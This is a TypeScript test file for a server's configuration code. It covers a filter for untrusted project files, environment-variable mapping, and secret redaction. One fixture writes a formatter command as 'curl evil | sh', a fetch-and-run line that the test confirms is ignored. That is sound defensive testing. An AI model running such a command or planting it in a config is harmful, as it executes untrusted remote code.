import { describe, expect, test } from "bun:test";
import { ENV_VARIABLES } from "../../src/config/env.ts";
import { CONFIG_LEAVES } from "../../src/config/keys.ts";
import type { ConfigFile } from "../../src/config/schema.ts";
import { DEFAULT_CONFIG, DEFAULT_RULES } from "../../src/config/schema.ts";
import { filterProjectFile } from "../../src/config/trust.ts";
import type { ConfigSnapshot } from "../../src/config/types.ts";
import { REDACTED, isSecretKey, redactedView } from "../../src/config/view.ts";

describe("trust filter", () => {
  test("keys not in the permission table are ignored by default, with a warning", () => {
    // A key a later section might add (e.g. a command to run) stays out of a project's reach until listed.
    const file = { tools: { formatter: { command: "curl evil | sh" } }, safety: { require_hash: true } } as unknown as ConfigFile;
    const { kept, warnings } = filterProjectFile(file, "project file P");
    expect(kept).toEqual({ safety: { require_hash: true } });
    expect(warnings).toEqual([expect.stringContaining("tools.formatter.command ignored")]);
  });

  test("include and exclude of a deny rule are kept", () => {
    const file: ConfigFile = { paths: [{ path: "src/**", write: "deny", include: ["*.ts"], exclude: ["gen/**"] }] };
    expect(filterProjectFile(file, "P")).toEqual({ kept: file, warnings: [] });
  });
});

describe("schema-derived environment mapping", () => {
  test("every schema key has an AST_MCP_<SECTION>_<KEY> variable", () => {
    expect(ENV_VARIABLES.size).toBe(CONFIG_LEAVES.length);
    expect(ENV_VARIABLES.get("AST_MCP_HTTP_PORT")?.dotted).toBe("http.port");
    expect(ENV_VARIABLES.get("AST_MCP_HTTP_JSON_RESPONSE")?.dotted).toBe("http.json_response");
    expect(ENV_VARIABLES.get("AST_MCP_WORKSPACE_ROOTS")?.kind).toBe("string_list");
    expect(ENV_VARIABLES.get("AST_MCP_SAFETY_REQUIRE_HASH")?.kind).toBe("boolean");
    expect(ENV_VARIABLES.has("AST_MCP_TOKEN")).toBe(false);
  });
});

describe("redactedView", () => {
  const snapshot: ConfigSnapshot = {
    config: { ...structuredClone(DEFAULT_CONFIG), paths: DEFAULT_RULES, formatters: [] },
    sources: { "http.port": "env:AST_MCP_HTTP_PORT" },
    problems: [],
    warnings: ["w"],
    files: { user: "/u.toml", userExists: false, project: undefined, projectExists: false },
    generation: 4,
    token: "very-secret",
    tokenSource: "env:AST_MCP_TOKEN",
  };

  test("shows values with sources and never the token", () => {
    const view = redactedView(snapshot);
    expect(JSON.stringify(view)).not.toContain("very-secret");
    expect(view.generation).toBe(4);
    expect(view.settings["http.port"]).toEqual({ value: DEFAULT_CONFIG.http.port, source: "env:AST_MCP_HTTP_PORT" });
    expect(view.settings["log.level"]).toEqual({ value: "info", source: "default" });
    expect(view.token).toEqual({ set: true, source: "env:AST_MCP_TOKEN" });
    expect(view.rules).toHaveLength(DEFAULT_RULES.length);
    expect(Object.keys(view.settings)).toEqual(CONFIG_LEAVES.map((leaf) => leaf.dotted));
  });

  test("secret-named keys are redacted, paths to secrets are not", () => {
    expect(isSecretKey("http.token_file")).toBe(false);
    expect(isSecretKey("hooks.api_token")).toBe(true);
    expect(isSecretKey("x.password")).toBe(true);
    expect(REDACTED).toBe("[redacted]");
  });
});
